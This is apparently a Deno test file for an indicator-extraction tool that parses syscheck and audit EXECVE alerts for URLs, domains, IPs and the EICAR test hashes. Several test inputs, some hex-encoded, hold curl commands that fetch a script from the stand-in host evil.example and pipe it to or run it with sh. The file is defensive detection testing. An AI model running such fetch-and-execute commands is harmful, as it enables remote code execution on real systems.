import { assertEquals } from "@std/assert";
import { findIn, valuesOf } from "../../stand_ins/alerts.ts";

const EICAR = [
  "sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
  "sha1 3395856ce81f2b7382dee72602f798b642f14140",
  "md5 44d88612fea8a8f36de82e1278abb02f",
];

Deno.test("syscheck reads by group or by event", async (t) => {
  const hashes = { sha256_after: EICAR[0]?.slice(7) };
  const cases: readonly [
    string,
    readonly string[],
    string | undefined,
    boolean,
  ][] = [
    [
      "added, by group",
      ["syscheck_file", "syscheck_entry_added"],
      undefined,
      true,
    ],
    [
      "modified, by group",
      ["syscheck_file", "syscheck_entry_modified"],
      undefined,
      true,
    ],
    ["deleted", ["syscheck_file", "syscheck_entry_deleted"], "deleted", false],
    ["added, by event", ["malware"], "added", true],
    ["modified, by event", ["malware"], "modified", true],
    ["a registry value", ["syscheck_entry_added"], undefined, true],
    ["neither", ["syscheck_file"], undefined, false],
  ];
  for (const [name, groups, event, isRead] of cases) {
    await t.step(name, () => {
      const { sources } = findIn({
        rule: { groups },
        syscheck: { ...hashes, event },
      });
      assertEquals(sources, isRead ? ["syscheck"] : []);
    });
  }
});

Deno.test("audit finds URLs wherever they stand in the command line", async (t) => {
  const evil = ["url http://evil.example/a.sh", "domain evil.example"];
  const hex = (text: string) =>
    [...new TextEncoder().encode(text)].map((byte) =>
      byte.toString(16).padStart(2, "0")
    ).join("").toUpperCase();
  const execve = (args: string) =>
    `type=SYSCALL msg=audit(1:2): a0=55f0 a1=687474703A2F2F6576696C2E6578616D706C652F62 type=EXECVE msg=audit(1:2): argc=9 ${args} type=CWD msg=audit(1:2): cwd="/root"`;
  const cases: Readonly<Record<string, readonly [string, readonly string[]]>> =
    {
      "alone": ['a0="curl" a1="http://evil.example/a.sh"', evil],
      "after an option": [
        'a0="curl" a1="--url=http://evil.example/a.sh"',
        evil,
      ],
      "in a shell's command": [
        `a0="sh" a1="-c" a2=${hex("curl 'http://evil.example/a.sh' | sh")}`,
        evil,
      ],
      "beyond a7": ['a0="x" a8="http://evil.example/a.sh"', evil],
      "hex beyond a7": [`a11=${hex('"http://evil.example/a.sh"')}`, evil],
      "in parts": [
        `a1_len=30 a1[0]="http://evil.ex" a1[1]=${hex("ample/a.sh")}`,
        evil,
      ],
      "before a semicolon": [
        `a1=${hex("curl http://evil.example/a.sh;sh a.sh")}`,
        [
          "url http://evil.example/a.sh;sh",
          "domain evil.example",
          "url http://evil.example/a.sh",
        ],
      ],
      "before &&": [
        `a1=${hex("curl http://evil.example/a.sh&&sh a.sh")}`,
        evil,
      ],
      "in an address": ['a1="http://9.9.9.9:8000/x"', [
        "url http://9.9.9.9:8000/x",
        "ipv4 9.9.9.9",
      ]],
      "none": ['a0="ls" a1="-l"', []],
    };
  for (const [name, [args, expected]] of Object.entries(cases)) {
    await t.step(name, () => {
      const alert = {
        rule: { groups: ["audit_command"] },
        full_log: execve(args),
      };
      assertEquals(valuesOf(findIn(alert)), expected);
    });
  }
});

Deno.test("audit asks for the host in whatever form it has, and says what it does not ask for", () => {
  const { iocs, skipped } = findIn({
    rule: { groups: ["audit_command"] },
    data: {
      audit: {
        execve: { a0: "curl", a1: "http://10.0.0.1/x", a2: 7, a3: null },
      },
    },
  });
  assertEquals(iocs, []);
  assertEquals(skipped.map(({ reason }) => reason), [
    "not a global address (ignore.private_networks)",
    "not a global address (ignore.private_networks)",
  ]);
});
